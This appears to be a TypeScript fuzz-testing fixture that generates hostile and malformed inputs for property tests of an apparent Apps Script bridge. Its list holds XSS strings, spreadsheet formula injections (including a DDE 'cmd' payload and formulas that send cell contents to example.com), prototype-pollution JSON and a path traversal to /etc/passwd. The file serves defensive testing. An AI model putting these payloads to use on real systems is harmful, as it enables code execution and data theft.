/** Values and texts of somebody who means harm, or of something that broke. */
import fc from "fast-check";
import type { Json } from "../../preview/host/types.ts";

/** Texts that some reader of them would take for something else. */
export const HOSTILE_TEXTS: readonly string[] = [
  "",
  " ",
  "\0",
  "=1+1",
  '=HYPERLINK("https://example.com/?"&A1,"見る")',
  '=IMPORTXML(CONCAT("https://example.com/?",A2),"//a")',
  "+81-3-0000-0000",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(A1:A9)",
  "＝1+1",
  "＋1",
  "＠SUM(1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "'=1+1",
  "''=1+1",
  "'",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '"><svg/onload=alert(1)>',
  "</style></script><!--",
  "javascript:alert(1)",
  "__proto__",
  "constructor",
  "prototype",
  "hasOwnProperty",
  "toString",
  '{"__proto__":{"polluted":1}}',
  "\u202e注文番号\u202c",
  "\u2066249-1000001-7000001\u2069",
  "２４９−１０００００１−７０００００１",
  "аmazon", // a Cyrillic а
  "\ud800",
  "\udc00\ud800",
  "A\u0301\u0301\u0301\u0301",
  "👨‍👩‍👧‍👦",
  "\ufeff",
  "\ufffe",
  "NaN",
  "1e309",
  "-1",
  "99999999999999999999",
  "null",
  "undefined",
  "[object Object]",
  "../../../../etc/passwd",
  "{{商品}}",
  "{{",
  "{}",
  "[]",
  "%s%n",
  "a".repeat(60_000),
  "積".repeat(50_000),
  '"'.repeat(2_000),
  "1-".repeat(2_000),
  " ".repeat(2_000),
  `${"(".repeat(2_000)}`,
];

export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_TEXTS) },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ maxLength: 200 }) },
);

export const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(
    0,
    -0,
    -1,
    1,
    0.5,
    2 ** 31,
    -(2 ** 31),
    2 ** 53,
    1e15,
    -1e15,
    8.64e15,
    9e15,
    1e300,
    -1e300,
    5e-324,
  ),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.integer(),
);

function nested(depth: number): Json {
  let value: Json = "x";
  for (let level = 0; level < depth; level += 1) value = level % 2 === 0 ? [value] : { a: value };
  return value;
}

/** Own properties with names that every object has already, as only JSON makes them. */
const POLLUTING: readonly Json[] = [
  '{"__proto__":{"polluted":1}}',
  '{"__proto__":null}',
  '{"constructor":{"prototype":{"polluted":1}}}',
  '{"__proto__":{"ok":true,"state":"closed"},"length":1}',
  '{"toString":1,"valueOf":1,"hasOwnProperty":1}',
  '{"length":4294967295}',
  '{"then":1}',
].map((text) => JSON.parse(text) as Json);

/** Anything that gets across `google.script.run`. */
export const forged: fc.Arbitrary<Json> = fc.oneof(
  hostileText,
  hostileNumber,
  fc.boolean(),
  fc.constant(null),
  fc.constantFrom<Json>(...POLLUTING, nested(400), [], {}, [[]], [null], new Array<number>(5_000).fill(0)),
  fc.jsonValue({ maxDepth: 3 }) as fc.Arbitrary<Json>,
  fc.dictionary(hostileText, hostileText as fc.Arbitrary<Json>, { maxKeys: 4 }),
);

/** A value with one place in it forged, left out, doubled, or one more beside it. */
export function tampered(value: Json): fc.Arbitrary<Json> {
  return fc
    .tuple(fc.nat(), forged, fc.constantFrom("replace", "drop", "add", "keep"), hostileText)
    .map(([place, poison, how, key]) => {
      const paths = pathsIn(value);
      return changedAt(value, paths[place % paths.length] ?? [], (old) => {
        if (how === "replace") return poison;
        if (how === "keep") return old;
        if (Array.isArray(old)) return how === "drop" ? old.slice(1) : [...old, poison];
        if (typeof old === "object" && old !== null) {
          const entries = Object.entries(old);
          const kept =
            how === "drop"
              ? entries.filter((_entry, index) => index !== place % entries.length)
              : [...entries, [key, poison]];
          return Object.fromEntries(kept) as Json;
        }
        return how === "drop" ? null : [old, poison];
      });
    });
}

type Path = readonly (string | number)[];

function pathsIn(value: Json, above: Path = []): Path[] {
  if (Array.isArray(value)) {
    return [above, ...value.slice(0, 5).flatMap((one: Json, index) => pathsIn(one, [...above, index]))];
  }
  if (typeof value === "object" && value !== null) {
    return [above, ...Object.entries(value).flatMap(([key, one]) => pathsIn(one as Json, [...above, key]))];
  }
  return [above];
}

function changedAt(value: Json, path: Path, change: (old: Json) => Json): Json {
  const [step, ...rest] = path;
  if (step === undefined) return change(value);
  if (Array.isArray(value)) {
    return value.map((one: Json, index) => (index === step ? changedAt(one, rest, change) : one));
  }
  return Object.fromEntries(
    Object.entries(value as object).map(([key, one]) => [
      key,
      key === step ? changedAt(one as Json, rest, change) : (one as Json),
    ]),
  );
}
